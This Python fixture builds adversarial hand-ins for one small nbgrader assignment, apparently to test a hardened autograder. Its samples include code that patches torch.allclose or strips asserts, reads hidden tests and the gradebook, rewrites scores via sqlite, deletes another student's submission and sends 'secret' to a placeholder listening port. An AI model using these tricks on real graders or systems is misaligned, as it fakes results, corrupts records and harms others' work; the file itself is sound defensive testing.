"""Hand-ins that break plain nbgrader, each with what it deserves, for one small assignment.

The notebook has one cell for the answer and two that check it: `double`, 4 points, and `half`, 2.
Most answer `half` right and `double` wrong or by a trick.
"""

import copy
import json
from collections.abc import Callable, Mapping
from typing import Any

import msgspec

SLUG = "doubling"
POINTS = {"double": 4.0, "half": 2.0}
Book = dict[str, Any]

RIGHT = """\
import torch

def double(x):
    return 2 * x

def half(x):
    return x / 2
"""
WRONG = RIGHT.replace("return 2 * x", "return x - 1")
VISIBLE = {
    "double": "import torch\nassert torch.allclose(double(torch.tensor([3.0])), torch.tensor([6.0]))",
    "half": "assert torch.allclose(half(torch.tensor([3.0])), torch.tensor([1.5]))",
}
HIDDEN = {
    "double": "assert torch.allclose(double(torch.tensor([1000.0])), torch.tensor([2000.0]))",
    "half": "assert torch.allclose(half(torch.tensor([9.0])), torch.tensor([4.5]))",
}


class Break(msgspec.Struct, frozen=True):
    """One hand-in: code in the answer's cell, or a change to the whole notebook."""

    name: str
    deserves: float
    code: str = WRONG
    change: Callable[[Book], Book | str] | None = None


def notebook(tests: Mapping[str, str]) -> Book:
    """The notebook with these sources in the cells that check."""
    cells = [
        {"id": "title", "cell_type": "markdown", "metadata": {}, "source": "# Doubling"},
        _code("code", "# YOUR CODE HERE\n", solution=True),
        *(_code(name, source, POINTS[name]) for name, source in tests.items()),
    ]
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": kernel}, "cells": cells}


def plain_source() -> Book:
    """What an instructor writes for plain nbgrader."""
    return notebook(
        {
            name: f"{VISIBLE[name]}\n### BEGIN HIDDEN TESTS\n{HIDDEN[name]}\n### END HIDDEN TESTS"
            for name in POINTS
        }
    )


def handed_in(one: Break, released: Book, port: int = 0) -> str:
    """The file that the student hands in; `port` is where somebody listens."""
    book = copy.deepcopy(released)
    cell_of(book, "code")["source"] = one.code.replace(str(PORT), str(port))
    changed = one.change(book) if one.change else book
    return changed if isinstance(changed, str) else json.dumps(changed)


def cell_of(book: Book, name: str) -> dict[str, Any]:
    """The cell that nbgrader calls so."""
    (cell,) = [
        c for c in book["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name
    ]
    return cell


def _code(name: str, source: str, points: float | None = None, *, solution: bool = False) -> Book:
    known = {
        "schema_version": 3,
        "grade_id": name,
        "grade": points is not None,
        "solution": solution,
        "locked": not solution,
        "task": False,
        **({} if points is None else {"points": points}),
    }
    cell = {"id": name, "cell_type": "code", "metadata": {"nbgrader": known}, "source": source}
    return {**cell, "outputs": [], "execution_count": None}


def _in_double(*lines: str, then: str = "x - 1") -> str:
    body = "".join(f"    {line}\n" for line in lines)
    return RIGHT.replace("    return 2 * x\n", f"{body}    return {then}\n")


def _first(*lines: str, then: str = WRONG) -> str:
    return "\n".join(lines) + "\n\n" + then


def _without(book: Book) -> Book:
    return {**book, "cells": [cell for cell in book["cells"] if cell["id"] != "double"]}


def _edited(book: Book) -> Book:
    cell_of(book, "double")["source"] = "4.0"
    return book


def _twice(book: Book) -> Book:
    more = copy.deepcopy(cell_of(book, "double"))
    return {**book, "cells": [*book["cells"], {**more, "id": "again", "source": "4.0"}]}


def _other_kernel(book: Book) -> Book:
    book["metadata"]["kernelspec"] = {"display_name": "R", "language": "R", "name": "ir"}
    return book


def _newer_schema(book: Book) -> Book:
    cell_of(book, "double")["metadata"]["nbgrader"]["schema_version"] = 4
    return book


def _no_points(book: Book) -> Book:
    del cell_of(book, "double")["metadata"]["nbgrader"]["points"]
    return book


def _cut(book: Book) -> str:
    return json.dumps(book)[:-60]


PORT = 59_999  # stands for one where somebody listens
TO_ROOT = "../../.."  # from where plain nbgrader runs a notebook
READ = (
    "import re, pathlib",
    "text = ''.join(p.read_text(errors='replace') for p in {where})",
    "right = dict(re.findall(r'double\\(torch.tensor\\(\\[(.+?)\\]\\)\\), torch.tensor\\(\\[(.+?)\\]\\)', text))",
)
LOOK_UP = "torch.tensor([float(right[str(x.item())])])"


def _reads(where: str) -> str:
    lines = tuple(line.replace("{where}", where) for line in READ)
    return _in_double(*lines, then=LOOK_UP)


BREAKS = (
    Break("warns", 6, _in_double("import warnings", "warnings.warn('slow')", then="2 * x")),
    Break("exits", 2, _in_double("import os", "os._exit(0)")),
    Break("crashes", 2, _in_double("import ctypes", "ctypes.string_at(0)")),
    Break(
        "ignores_sigint",
        2,
        _in_double(
            "import signal", "signal.signal(signal.SIGINT, signal.SIG_IGN)", "while True: pass"
        ),
    ),
    Break("eats_memory", 2, _in_double("a = []", "while True: a.append(bytearray(1 << 28))")),
    Break("patches_allclose", 2, _first("import torch", "torch.allclose = lambda *a, **k: True")),
    Break(
        "always_equal",
        2,
        _in_double(
            "class Yes(torch.Tensor):",
            "    @classmethod",
            "    def __torch_function__(cls, *a, **k): return True",
            then="x.as_subclass(Yes)",
        ),
    ),
    Break(
        "ast_transformer",
        2,
        _first(
            "import ast",
            "class NoAsserts(ast.NodeTransformer):",
            "    def visit_Assert(self, node): return ast.Pass()",
            "get_ipython().ast_transformers.append(NoAsserts())",
        ),
    ),
    Break(
        "input_transformer",
        2,
        _first(
            "def no_asserts(lines): return [l for l in lines if not l.startswith('assert')]",
            "get_ipython().input_transformers_cleanup.append(no_asserts)",
        ),
    ),
    Break("prints_points", 2, _in_double("import atexit", "print(4.0)")),
    Break("reads_its_notebook", 2, _reads("pathlib.Path().glob('*.ipynb')")),
    Break("reads_the_source", 2, _reads(f"pathlib.Path('{TO_ROOT}/source').rglob('*.ipynb')")),
    Break("reads_the_gradebook", 2, _reads(f"[pathlib.Path('{TO_ROOT}/gradebook.db')]")),
    Break(
        "reads_its_history",
        2,
        _in_double(
            "import re",
            "text = ''.join(In)",
            READ[2],
            then=LOOK_UP,
        ),
    ),
    Break(
        "writes_the_gradebook",
        2,
        _in_double(
            "import sqlite3",
            f"book = sqlite3.connect('{TO_ROOT}/gradebook.db')",
            "book.execute('update grade set manual_score = 4 where cell_id in "
            '(select id from base_cell where name = "double")\')',
            "book.commit()",
        ),
    ),
    Break(
        "deletes_other_work",
        2,
        _in_double("import shutil", f"shutil.rmtree('{TO_ROOT}/submitted/victim')"),
    ),
    Break(
        "edits_the_settings",
        2,
        _in_double(f"open('{TO_ROOT}/nbgrader_config.py', 'a').write('# mine\\n')"),
    ),
    Break(
        "calls_home",
        6,
        _in_double(
            "import socket",
            "try:",
            f"    socket.create_connection(('127.0.0.1', {PORT}), 1).send(b'secret')",
            "except OSError:",
            "    pass",
            then="2 * x",
        ),
    ),
    Break(
        "leaves_a_process",
        6,
        _in_double(
            "import subprocess",
            "try:",
            f"    subprocess.Popen(['sleep', '{PORT}'], start_new_session=True)",
            "except OSError:",
            "    pass",
            then="2 * x",
        ),
    ),
    Break("deletes_a_cell", 6, RIGHT, _without),
    Break("edits_a_cell", 2, WRONG, _edited),
    Break("copies_a_cell", 2, WRONG, _twice),
    Break("takes_another_kernel", 6, RIGHT, _other_kernel),
    Break("newer_schema", 6, RIGHT, _newer_schema),
    Break("no_points", 6, RIGHT, _no_points),
    Break("cut_short", 0, RIGHT, _cut),
)
